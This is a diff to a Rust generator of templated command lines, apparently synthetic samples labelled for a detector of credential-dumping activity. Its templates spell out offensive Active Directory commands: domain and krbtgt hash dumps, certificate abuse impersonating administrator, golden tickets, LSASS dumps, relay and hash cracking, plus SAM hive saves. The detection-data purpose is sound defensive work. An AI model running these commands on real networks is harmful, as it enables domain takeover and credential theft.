@@ -31,22 +31,22 @@ const CHAT: &[&str] = &[
 
 /// What such work is made of, none of it the local account database.
 const LINE: &str = concat!(
-    "«nmap -Pn -sV -p 88,389,445 {cidr} -oA {stem}¦nxc smb {cidr} -u {u} -p {password} --shares¦nxc smb {rhost} -u {u} -p ",
-    "{password} --pass-pol¦nxc smb {rhost} -u {u} -p {password} --rid-brute {4000..9000} | tee rid.txt¦nxc ldap {rhost} -u {u} ",
-    "-p {password} -M adcs¦certipy find -u {u}@{domain} -p {password} -dc-ip {ip} -vulnerable -stdout¦certipy req -u ",
-    "{u}@{domain} -p {password} -ca {stem}-CA -template {stem} -upn administrator@{domain}¦certipy auth -pfx administrator.pfx ",
-    "-dc-ip {ip}¦export KRB5CCNAME={first}.ccache¦GetUserSPNs.py {domain}/{u}:{password} -dc-ip {ip} -request¦GetNPUsers.py ",
-    "{domain}/ -usersfile users.txt -no-pass -dc-ip {ip}¦secretsdump.py -just-dc-user krbtgt {domain}/{u}:{password}@{rhost}¦",
-    "secretsdump.py -k -no-pass -just-dc {rhost}¦ticketer.py -nthash {nthash} -domain-sid {sid} -domain {domain} {u}¦psexec.py -k ",
-    "-no-pass {domain}/{u}@{rhost} hostname¦wmiexec.py {domain}/{u}:{password}@{rhost} whoami¦bloodhound-python -u {u} -p ",
-    "{password} -d {domain} -c All -ns {ip}¦responder -I eth0 -dwv¦hashcat -m 13100 tgs.txt rockyou.txt¦john --wordlist=rockyou.txt ",
-    "asrep.txt¦evil-winrm -i {rhost} -u {u} -p {password}¦tar czf out.tgz *.txt *.json¦smbclient //{rhost}/{share} -U ",
-    "{u}%{password} -c 'ls'¦ldapsearch -x -H ldap://{rhost} -b 'DC={stem},DC=local' sAMAccountName¦rpcclient -U {u}%{password} ",
-    "{rhost} -c enumdomusers¦samrdump.py {u}:{password}@{rhost}¦nxc smb {rhost} -u {u} -p {password} --lsa¦nxc smb {rhost} -u {u} ",
-    "-p {password} -M lsassy¦lookupsid.py {domain}/{u}:{password}@{rhost}¦mkdir -p loot && cd loot¦kerbrute userenum -d {domain} ",
-    "users.txt¦ntlmrelayx.py -t ldap://{rhost} --delegate-access¦# {comment}¦addcomputer.py {domain}/{u}:{password} -computer-name ",
-    "{stem}$¦smbmap -H {rhost} -u {u} -p {password}¦enum4linux -a {rhost}¦sleep {1..60}¦dacledit.py -action read -target {u} ",
-    "{domain}/{user}:{password}¦getST.py -spn cifs/{rhost} {domain}/{u}:{password}»"
+    "«nmap -Pn -sV -p 88,389,445 {cidr} -oA {stem}¦nxc smb {cidr} -u {u} -p {pw} --shares¦nxc smb {rhost} -u {u} -p ",
+    "{pw} --pass-pol¦nxc smb {rhost} -u {u} -p {pw} --rid-brute {4000..9000} | tee rid.txt¦nxc ldap {rhost} -u {u} ",
+    "-p {pw} -M adcs¦certipy find -u {u}@{domain} -p {pw} -dc-ip {ip} -vulnerable -stdout¦certipy req -u ",
+    "{u}@{domain} -p {pw} -ca {stem}-CA -template {stem} -upn administrator@{domain}¦certipy auth -pfx administrator.pfx ",
+    "-dc-ip {ip}¦export KRB5CCNAME={first}.ccache¦GetUserSPNs.py {domain}/{u}:{pw} -dc-ip {ip} -request¦GetNPUsers.py ",
+    "{domain}/ -usersfile users.txt -no-pass -dc-ip {ip}¦secretsdump.py -just-dc-user krbtgt {domain}/{u}:{pw}@{rhost}¦",
+    "secretsdump.py -k -no-pass -just-dc«-user krbtgt¦-user {u}¦-ntlm¦» {rhost}¦ticketer.py -nthash {nthash} -domain-sid {sid} -domain {domain} {u}¦psexec.py -k ",
+    "-no-pass {domain}/{u}@{rhost} hostname¦wmiexec.py {domain}/{u}:{pw}@{rhost} whoami¦bloodhound-python -u {u} -p ",
+    "{pw} -d {domain} -c All -ns {ip}¦responder -I eth0 -dwv¦hashcat -m 13100 tgs.txt rockyou.txt¦john --wordlist=rockyou.txt ",
+    "asrep.txt¦evil-winrm -i {rhost} -u {u} -p {pw}¦tar czf out.tgz *.txt *.json¦smbclient //{rhost}/{share} -U ",
+    "{u}%{pw} -c 'ls'¦ldapsearch -x -H ldap://{rhost} -b 'DC={stem},DC=local' sAMAccountName¦rpcclient -U {u}%{pw} ",
+    "{rhost} -c enumdomusers¦samrdump.py {u}:{pw}@{rhost}¦nxc smb {rhost} -u {u} -p {pw} --lsa¦nxc smb {rhost} -u {u} ",
+    "-p {pw} -M lsassy¦lookupsid.py {domain}/{u}:{pw}@{rhost}¦mkdir -p loot && cd loot¦kerbrute userenum -d {domain} ",
+    "users.txt¦ntlmrelayx.py -t ldap://{rhost} --delegate-access¦# {comment}¦addcomputer.py {domain}/{u}:{pw} -computer-name ",
+    "{stem}$¦smbmap -H {rhost} -u {u} -p {pw}¦enum4linux -a {rhost}¦sleep {1..60}¦dacledit.py -action read -target {u} ",
+    "{domain}/{user}:{pw}¦getST.py -spn cifs/{rhost} {domain}/{u}:{pw}»"
 );
 const WLINE: &str = concat!(
     "«whoami /all¦net user /domain¦net group \"Domain Admins\" /domain¦nltest /dclist:{domain}¦systeminfo¦tasklist /svc¦ipconfig /all¦",
@@ -74,7 +74,8 @@ macro_rules! engagement {
             ("l", LINE),
             ("w", WLINE),
             ("say", SAY),
-            ("u", "«{user}¦{user}¦sam¦{first}¦administrator¦svc_{stem}»"),
+            ("u", "«{user}¦{user}¦sam¦{first}¦administrator¦svc_{stem}¦$U¦\"$U\"»"),
+            ("pw", "«{password}¦{password}¦'{password}'¦$P¦\"$P\"»"),
             $(($name, $text)),+
         ]
     };
@@ -91,7 +92,7 @@ pub const FAMILIES: &[Family] = &[
             "pypykatz registry --sam {samcopy} {syscopy}¦evil-winrm -i {rhost} -u {user} -H {nthash} <<< 'reg save hklm\\sam sam.save'»"
         ),
     }).weight(9),
-    Family::other("engagements", "engagement-unix-other", Sh, SCRIPT).slots(engagement! { "act": "{l}" }).weight(11),
+    Family::other("engagements", "engagement-unix-other", Sh, SCRIPT).slots(engagement! { "act": "{l}" }).weight(14),
     Family::act("engagements", "engagement-windows-sam", "engagement-windows-other", Cmd, BATCH).slots(engagement! {
         "wact": concat!(
             "«reg save HKLM\\{secret} {outfile}« /y»¦reg export HKLM\\{secret} {dir}\\{stem}.reg /y¦esentutl /y /vss {hivefile} /d {outfile}¦copy ",
